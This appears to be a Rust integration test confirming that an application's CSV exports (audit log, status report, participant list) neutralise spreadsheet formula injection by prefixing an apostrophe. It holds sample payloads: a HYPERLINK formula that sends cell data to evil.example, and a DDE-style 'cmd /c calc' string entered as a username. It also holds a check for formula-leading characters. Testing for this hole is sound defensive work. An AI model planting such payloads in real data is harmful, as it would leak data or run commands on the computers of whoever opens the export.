//! A name or username that a spreadsheet would run as a formula comes out of every CSV
//! export as text (a leading `'`): the audit export (reachable by anyone who can type a
//! username at the login form), the exchange status export and the participant export.

use loket::auth::Role;
use reqwest::StatusCode;

use super::loket_cli;
use crate::common::{person_json, post_login, TestApp};
use crate::on_each_backend;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";

/// Every cell of a CSV text (after its BOM).
fn cells(csv_text: &str) -> Vec<String> {
    let text = csv_text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// No cell starts as a formula, and `expected` is there as text.
fn assert_neutralised(csv_text: &str, expected: &str) {
    let cells = cells(csv_text);
    let live: Vec<_> = cells
        .iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect();
    assert!(live.is_empty(), "cells a spreadsheet would run: {live:?}");
    assert!(
        cells.iter().any(|c| c == &format!("'{expected}")),
        "{expected} as text in {cells:?}"
    );
}

async fn formulas_come_out_as_text(app: &TestApp) {
    let (_, admin_token) = app.user("pusat", Role::Admin, None).await;
    let admin = app.session("pusat").await;

    // Anyone can put a username into the audit log by failing to sign in.
    let username = "@sum(1+1)*cmd|' /c calc'!a0";
    let failed = post_login(&app.client, app, username, "salah-salah-salah").await;
    assert_eq!(failed.status(), StatusCode::UNAUTHORIZED);
    let export = admin
        .get("/audit/export?format=csv&reason=pemeriksaan%20rutin")
        .await;
    assert_eq!(export.status(), StatusCode::OK);
    assert_neutralised(&export.text().await.unwrap(), username);

    // A person registered with a formula for a name.
    let api = app.api(&admin_token);
    let response = api
        .register(&person_json("3201014505900001", FORMULA))
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let status = admin
        .post_form(
            "/exchange/status-export",
            &[
                ("csrf", admin.csrf.as_str()),
                ("reason", "laporan status mingguan"),
            ],
        )
        .await;
    assert_eq!(status.status(), StatusCode::OK);
    assert_neutralised(&status.text().await.unwrap(), FORMULA);

    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("peserta.csv");
    loket_cli(
        app,
        &[
            "export",
            "participants",
            "--out",
            out.to_str().unwrap(),
            "--reason",
            "pemeriksaan data bulanan",
        ],
        "",
    );
    assert_neutralised(&std::fs::read_to_string(&out).unwrap(), FORMULA);
}

#[tokio::test]
async fn formulas_in_names_come_out_of_every_csv_export_as_text() {
    on_each_backend!(formulas_come_out_as_text);
}
